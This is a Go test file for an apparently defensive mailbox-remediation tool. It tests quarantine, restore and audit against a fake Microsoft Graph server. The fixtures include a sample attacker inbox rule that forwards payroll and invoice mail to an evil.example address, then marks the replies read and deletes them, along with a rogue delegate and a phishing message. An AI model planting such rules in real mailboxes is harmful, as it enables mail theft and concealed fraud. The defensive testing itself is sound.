package graph_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"vigie.dev/vigie/internal/mailbox"
	"vigie.dev/vigie/internal/mailbox/graph"
	"vigie.dev/vigie/internal/mailbox/mailboxtest"
)

// fakeGraph answers the Graph v1.0 requests the connector makes, in
// Graph's JSON, over an in-memory tenant: the public internet is the one
// thing the tests may fake.
type fakeGraph struct {
	mu       sync.Mutex
	secret   string
	users    map[string]*fakeUser
	throttle int // next requests answered 429
	nextID   int
}

type fakeUser struct {
	folders map[string]string // id → displayName
	msgs    map[string]*fakeMsg
	rules   []map[string]any
	perms   []map[string]any
}

type fakeMsg struct {
	id, folder, mid, from, subject string
	raw                            string
	at                             time.Time
}

func newFake() *fakeGraph { return &fakeGraph{secret: "s3cret", users: map[string]*fakeUser{}} }

func (f *fakeGraph) addUser(u string) *fakeUser {
	x := &fakeUser{folders: map[string]string{"AAinbox": "Inbox", "AAsent": "Sent Items", "AAdrafts": "Drafts",
		"AAdeleted": "Deleted Items", "AAjunk": "Junk Email", "AAarchive": "Archive"}, msgs: map[string]*fakeMsg{}}
	f.users[u] = x
	return x
}

func (f *fakeGraph) deliver(u, folder, mid, from, subject string) string {
	f.nextID++
	id := fmt.Sprintf("AAMkAD%04d=", f.nextID)
	raw := fmt.Sprintf("Message-ID: <%s>\r\nFrom: %s\r\nSubject: %s\r\n\r\nhttp://paie-chu.evil.example/\r\n", mid, from, subject)
	f.users[u].msgs[id] = &fakeMsg{id: id, folder: folder, mid: "<" + mid + ">", from: from, subject: subject, raw: raw, at: time.Now().UTC()}
	return id
}

var wellKnown = map[string]string{"inbox": "AAinbox", "sentitems": "AAsent", "drafts": "AAdrafts", "deleteditems": "AAdeleted",
	"junkemail": "AAjunk", "archive": "AAarchive"}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json; odata.metadata=minimal")
	w.WriteHeader(status)
	json.NewEncoder(w).Encode(v)
}

func graphError(w http.ResponseWriter, status int, code, msg string) {
	writeJSON(w, status, map[string]any{"error": map[string]any{"code": code, "message": msg,
		"innerError": map[string]any{"request-id": "4f0d…", "date": "2026-12-05T10:00:00"}}})
}

var (
	filterMID  = regexp.MustCompile(`internetMessageId eq '([^']*)'`)
	filterFrom = regexp.MustCompile(`from/emailAddress/address eq '([^']*)'`)
)

func (f *fakeGraph) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if r.URL.Path == "/tenant/oauth2/v2.0/token" {
		r.ParseForm()
		if r.Form.Get("client_secret") != f.secret || r.Form.Get("grant_type") != "client_credentials" {
			writeJSON(w, 401, map[string]any{"error": "invalid_client", "error_description": "AADSTS7000215: Invalid client secret provided."})
			return
		}
		writeJSON(w, 200, map[string]any{"token_type": "Bearer", "expires_in": 3599, "ext_expires_in": 3599, "access_token": "eyJ0eXAi.fake"})
		return
	}
	if r.Header.Get("Authorization") != "Bearer eyJ0eXAi.fake" {
		graphError(w, 401, "InvalidAuthenticationToken", "Access token is empty.")
		return
	}
	if f.throttle > 0 {
		f.throttle--
		w.Header().Set("Retry-After", "0")
		graphError(w, 429, "ApplicationThrottled", "Application is over its MailboxConcurrency limit.")
		return
	}
	parts := strings.Split(strings.TrimPrefix(r.URL.Path, "/v1.0/"), "/")
	if parts[0] == "users" && len(parts) == 1 {
		var v []map[string]any
		for u := range f.users {
			v = append(v, map[string]any{"userPrincipalName": u, "mail": u})
		}
		writeJSON(w, 200, map[string]any{"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#users(userPrincipalName,mail)", "value": v})
		return
	}
	if parts[0] != "users" || len(parts) < 3 {
		graphError(w, 400, "BadRequest", "Unsupported segment")
		return
	}
	u := f.users[parts[1]]
	if u == nil {
		graphError(w, 404, "ErrorInvalidUser", "The requested user '"+parts[1]+"' is invalid.")
		return
	}
	rest := parts[2:]
	switch {
	case rest[0] == "mailFolders" && len(rest) == 1 && r.Method == http.MethodGet:
		var v []map[string]any
		for id, name := range u.folders {
			v = append(v, map[string]any{"id": id, "displayName": name, "parentFolderId": "AAroot", "childFolderCount": 0})
		}
		writeJSON(w, 200, map[string]any{"value": v})
	case rest[0] == "mailFolders" && len(rest) == 1 && r.Method == http.MethodPost:
		var body map[string]string
		json.NewDecoder(r.Body).Decode(&body)
		f.nextID++
		id := fmt.Sprintf("AAfolder%d", f.nextID)
		u.folders[id] = body["displayName"]
		writeJSON(w, 201, map[string]any{"id": id, "displayName": body["displayName"], "parentFolderId": "AAroot"})
	case rest[0] == "mailFolders" && len(rest) == 2 && wellKnown[rest[1]] != "":
		id := wellKnown[rest[1]]
		writeJSON(w, 200, map[string]any{"id": id, "displayName": u.folders[id]})
	case rest[0] == "mailFolders" && len(rest) == 3 && rest[2] == "messages":
		filter := r.URL.Query().Get("$filter")
		folder := rest[1]
		if id, ok := wellKnown[folder]; ok { // Graph takes well-known names in place of ids
			folder = id
		}
		var v []map[string]any
		for _, m := range u.msgs {
			if m.folder != folder {
				continue
			}
			if x := filterMID.FindStringSubmatch(filter); x != nil && x[1] != m.mid {
				continue
			}
			if x := filterFrom.FindStringSubmatch(filter); x != nil && x[1] != m.from {
				continue
			}
			v = append(v, map[string]any{"@odata.etag": `W/"CQAAABYAAAA"`, "id": m.id, "internetMessageId": m.mid, "subject": m.subject,
				"receivedDateTime": m.at.Format("2006-01-02T15:04:05Z"),
				"from":             map[string]any{"emailAddress": map[string]any{"name": "Service Paie", "address": m.from}},
				"toRecipients":     []any{map[string]any{"emailAddress": map[string]any{"address": parts[1]}}}})
		}
		writeJSON(w, 200, map[string]any{"value": v})
	case rest[0] == "messages" && len(rest) == 3 && rest[2] == "$value":
		m := u.msgs[rest[1]]
		if m == nil {
			graphError(w, 404, "ErrorItemNotFound", "The specified object was not found in the store.")
			return
		}
		w.Header().Set("Content-Type", "text/plain")
		io.WriteString(w, m.raw)
	case rest[0] == "messages" && len(rest) == 3 && rest[2] == "move":
		m := u.msgs[rest[1]]
		var body map[string]string
		json.NewDecoder(r.Body).Decode(&body)
		if id, ok := wellKnown[body["destinationId"]]; ok { // "the folder ID, or a well-known folder name"
			body["destinationId"] = id
		}
		if m == nil || u.folders[body["destinationId"]] == "" {
			graphError(w, 404, "ErrorItemNotFound", "The specified object was not found in the store.")
			return
		}
		delete(u.msgs, m.id)
		f.nextID++
		m.id, m.folder = fmt.Sprintf("AAMkAD%04d=", f.nextID), body["destinationId"]
		u.msgs[m.id] = m
		writeJSON(w, 201, map[string]any{"id": m.id, "internetMessageId": m.mid, "parentFolderId": m.folder})
	case rest[0] == "mailFolders" && len(rest) >= 3 && rest[1] == "inbox" && rest[2] == "messageRules":
		if len(rest) == 3 {
			writeJSON(w, 200, map[string]any{"value": u.rules})
			return
		}
		var body map[string]any
		json.NewDecoder(r.Body).Decode(&body)
		for _, rule := range u.rules {
			if rule["id"] == rest[3] {
				rule["isEnabled"] = body["isEnabled"]
				writeJSON(w, 200, rule)
				return
			}
		}
		graphError(w, 404, "ErrorItemNotFound", "not found")
	case rest[0] == "calendar" && len(rest) == 2 && rest[1] == "calendarPermissions":
		writeJSON(w, 200, map[string]any{"value": u.perms})
	default:
		graphError(w, 400, "BadRequest", "Unsupported request "+r.URL.Path)
	}
}

func connector(t *testing.T, srv *httptest.Server, secret string) *graph.Connector {
	c, err := graph.New(graph.Config{Tenant: "tenant", ClientID: "app", ClientSecret: secret, BaseURL: srv.URL + "/v1.0",
		TokenURL: srv.URL + "/tenant/oauth2/v2.0/token", HTTP: srv.Client()})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// A rule an attacker creates in Outlook on the web: forward the invoices
// outside, throw the replies away unread.
var attackerRule = `{"id":"AQAAAJ5dZqA=","displayName":".","sequence":1,"isEnabled":true,"hasError":false,"isReadOnly":false,
 "conditions":{"subjectContains":["facture","virement","RE:"]},
 "actions":{"forwardTo":[{"emailAddress":{"name":"x","address":"relais@evil.example"}}],"markAsRead":true,"delete":true,"stopProcessingRules":true}}`

func TestGraphPurgeAuditRestore(t *testing.T) {
	f := newFake()
	alice, bob := "alice@chu-exemple.test", "bob@chu-exemple.test"
	a := f.addUser(alice)
	f.addUser(bob)
	f.deliver(alice, "AAinbox", "camp@evil.example", "paie@evil.example", "Bulletin")
	f.deliver(alice, "AAinbox", "ok@partenaire.test", "x@partenaire.test", "Réunion")
	f.deliver(bob, "AAjunk", "camp@evil.example", "paie@evil.example", "Bulletin")
	var rule map[string]any
	json.Unmarshal([]byte(attackerRule), &rule)
	a.rules = append(a.rules, rule)
	a.perms = []map[string]any{{"id": "RGVsZWdhdGU=", "emailAddress": map[string]any{"name": "Mallory", "address": "mallory@chu-exemple.test"},
		"role": "delegateWithPrivateEventAccess", "isInsideOrganization": true, "isRemovable": true}}
	f.throttle = 1 // the first request is throttled, then retried
	srv := httptest.NewServer(f)
	defer srv.Close()
	ctx := context.Background()
	r := &mailbox.Remediator{Connector: connector(t, srv, "s3cret"), Ledger: &mailboxtest.Ledger{}}
	targets := []mailbox.Target{{Mailbox: alice, MessageID: "camp@evil.example"}, {Mailbox: bob, MessageID: "camp@evil.example"},
		{Mailbox: "nobody@chu-exemple.test", MessageID: "camp@evil.example"}}
	rep := r.Purge(ctx, mailbox.PurgeRequest{Incident: 7, Targets: targets, By: "rssi"})
	if rep.Moved != 2 || rep.Failed != 1 || !strings.Contains(rep.Mailboxes[2].Err, "no such mailbox") {
		t.Fatalf("purge: %+v", rep)
	}
	for _, u := range []string{alice, bob} {
		for _, m := range f.users[u].msgs {
			if m.mid == "<camp@evil.example>" && f.users[u].folders[m.folder] != mailbox.DefaultQuarantine {
				t.Errorf("%s: campaign in %s", u, f.users[u].folders[m.folder])
			}
			if m.mid != "<camp@evil.example>" && m.folder != "AAinbox" {
				t.Errorf("%s: other message moved", u)
			}
		}
	}
	if rep.Mailboxes[1].Moved[0].Folder != "Junk Email" || rep.Mailboxes[0].Moved[0].SHA256 == "" {
		t.Errorf("copies: %+v", rep.Mailboxes)
	}

	back, err := r.Restore(ctx, mailbox.RestoreRequest{Incident: 7, By: "rssi"})
	if err != nil || back.Moved != 2 {
		t.Fatalf("restore: %v %+v", err, back)
	}
	for _, u := range []string{alice, bob} {
		for _, m := range f.users[u].msgs {
			if f.users[u].folders[m.folder] == mailbox.DefaultQuarantine {
				t.Errorf("%s: still in quarantine after restore", u)
			}
		}
	}

	res := r.Audit(ctx, mailbox.AuditRequest{Mailboxes: []string{alice}, OwnDomains: []string{"chu-exemple.test"}})
	sigs := map[string]bool{}
	for _, f := range res[0].Findings {
		sigs[f.Signal] = true
	}
	for _, s := range []string{mailbox.SigForwardExternal, mailbox.SigRuleDelete, mailbox.SigRuleMarkRead, mailbox.SigDelegate} {
		if !sigs[s] {
			t.Errorf("audit lacks %s: %+v", s, res[0].Findings)
		}
	}
	jr := &mailboxtest.Journal{}
	r.Journal = jr
	fixed := r.Audit(ctx, mailbox.AuditRequest{Incident: 7, Mailboxes: []string{alice}, By: "rssi",
		Fix: []string{"graph-rule:AQAAAJ5dZqA=", "graph-delegate:RGVsZWdhdGU="}})
	if rule["isEnabled"] != false || len(fixed[0].Fixed) != 2 || !strings.Contains(fixed[0].Fixed[1], "non désactivable") {
		t.Errorf("fix: %v %+v", rule["isEnabled"], fixed[0].Fixed)
	}
	// Both journaled: the rule disabled (how to undo it), the delegate
	// left with its definition.
	if texts := jr.Texts(); len(texts) != 2 || !strings.Contains(texts[0], "isEnabled false") ||
		!strings.Contains(texts[1], "laissée en place") || !strings.Contains(texts[1], "mallory@chu-exemple.test") {
		t.Errorf("journal %q", texts)
	}
	r.Journal = nil

	sweep, err := r.Sweep(ctx, mailbox.SweepRequest{User: alice, Since: time.Now().Add(-time.Hour), Inbox: true})
	if err != nil || len(sweep.Folders) < 5 {
		t.Errorf("sweep: %v %+v", err, sweep.Folders)
	}
	users, err := r.Connector.(mailbox.Lister).Users(ctx)
	if err != nil || len(users) != 2 {
		t.Errorf("users %v %v", users, err)
	}
	if _, err := connector(t, srv, "wrong").Open(ctx, alice); !errors.Is(err, mailbox.ErrCredentials) {
		t.Errorf("wrong secret: %v", err)
	}
}

func FuzzRuleOf(f *testing.F) {
	f.Add([]byte(attackerRule))
	f.Add([]byte(`{"id":"x","isEnabled":true,"actions":{"moveToFolder":"AAdeleted","redirectTo":[{}]}}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		var r graph.RuleJSON
		if json.Unmarshal(b, &r) != nil {
			return
		}
		out := graph.RuleOf(r, map[string]string{"Deleted Items": "AAdeleted"})
		if out.ID != "graph-rule:"+r.ID || out.Enabled != r.IsEnabled {
			t.Fatalf("%+v", out)
		}
		mailbox.Assess("u@x", []mailbox.Rule{out}, []string{"x"})
	})
}

// TestRuleOfForwarding: each of messageRule's three ways of sending mail
// on (forwardTo, forwardAsAttachmentTo, redirectTo), in Graph's JSON, is
// read as forwarding to its addresses; a disabled rule is reported
// disabled and not fixable.
func TestRuleOfForwarding(t *testing.T) {
	for _, tc := range []struct {
		name, json string
		targets    []string
		effects    []string
		enabled    bool
	}{
		{"forwardTo", `{"id":"AQAAAJ5dZqB=","displayName":"Copie","sequence":2,"isEnabled":true,"conditions":{"fromAddresses":[{"emailAddress":{"name":"Paie","address":"paie@chu-exemple.test"}}]},"actions":{"forwardTo":[{"emailAddress":{"name":"Relais","address":"Relais@Evil.example"}}],"stopProcessingRules":true}}`,
			[]string{"relais@evil.example"}, []string{"forward"}, true},
		{"forwardAsAttachmentTo", `{"id":"AQAAAJ5dZqC=","displayName":"Archive","sequence":3,"isEnabled":true,"conditions":{"hasAttachments":true},"actions":{"forwardAsAttachmentTo":[{"emailAddress":{"name":"","address":"boite@evil.example"}}],"markAsRead":true}}`,
			[]string{"boite@evil.example"}, []string{"forward", "mark-read"}, true},
		{"redirectTo", `{"id":"AQAAAJ5dZqD=","displayName":"Absence","sequence":4,"isEnabled":true,"conditions":{},"actions":{"redirectTo":[{"emailAddress":{"address":"a@evil.example"}},{"emailAddress":{"address":"b@chu-exemple.test"}}]}}`,
			[]string{"a@evil.example", "b@chu-exemple.test"}, []string{"forward"}, true},
		{"disabled", `{"id":"AQAAAJ5dZqE=","displayName":"Ancienne","sequence":5,"isEnabled":false,"actions":{"redirectTo":[{"emailAddress":{"address":"a@evil.example"}}]}}`,
			[]string{"a@evil.example"}, []string{"forward"}, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var x graph.RuleJSON
			if err := json.Unmarshal([]byte(tc.json), &x); err != nil {
				t.Fatal(err)
			}
			r := graph.RuleOf(x, nil)
			if !slices.Equal(r.Targets, tc.targets) || !slices.Equal(r.Effects, tc.effects) || r.Enabled != tc.enabled || r.Fixable != tc.enabled {
				t.Errorf("%+v", r)
			}
			fs := mailbox.Assess("alice@chu-exemple.test", []mailbox.Rule{r}, []string{"chu-exemple.test"})
			if tc.enabled != slices.ContainsFunc(fs, func(f mailbox.Finding) bool { return f.Signal == mailbox.SigForwardExternal }) {
				t.Errorf("findings %+v", fs)
			}
		})
	}
}
